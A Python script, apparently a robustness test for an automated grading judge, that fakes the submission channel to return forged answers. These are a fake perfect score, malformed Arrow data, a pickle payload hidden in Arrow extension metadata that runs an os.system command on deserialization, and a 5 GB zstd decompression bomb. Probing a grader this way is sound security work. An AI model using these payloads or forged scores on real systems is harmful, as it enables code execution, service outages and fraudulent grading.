"""Takes the place of what sends its answers, and sends points, garbage, and bytes made to harm the judge."""

import base64
import json
import os
import pickle

import campus_shim
import pyarrow as pa

KEPT = set()


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/campus-attack-pickle",)


def pickled():
    kind = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": pickle.dumps(Bomb())}
    schema = pa.schema([pa.field("c0", pa.string(), metadata=kind)], metadata={"campus": json.dumps({"shape": "list"})})
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, schema) as writer:
        writer.write_table(pa.Table.from_arrays([pa.array(["0"])], schema=schema))
    return base64.b64encode(sink.getvalue().to_pybytes()).decode()


def compressed_bomb():
    schema = pa.schema([("c0", pa.binary())], metadata={"campus": json.dumps({"shape": "list"})})
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, schema, options=pa.ipc.IpcWriteOptions(compression="zstd")) as writer:
        for _ in range(25):
            writer.write_table(pa.table([pa.array([bytes(200 << 20)])], schema=schema))
    return base64.b64encode(sink.getvalue().to_pybytes()).decode()


FORGED = {
    "find_bad_nir": lambda: json.dumps({"fraction": 1.0, "points": 2.0, "message": "parfait", "error": "Parfait"}),
    "find_bad_dates": lambda: json.dumps({"payload": base64.b64encode(b"ARROW1" + bytes(1000)).decode()}),
    "find_unit_errors": lambda: json.dumps({"payload": pickled()}),
    "find_duplicates": lambda: json.dumps({"payload": compressed_bomb()}),
}
campus_shim.call = lambda function, handle: FORGED[function]()
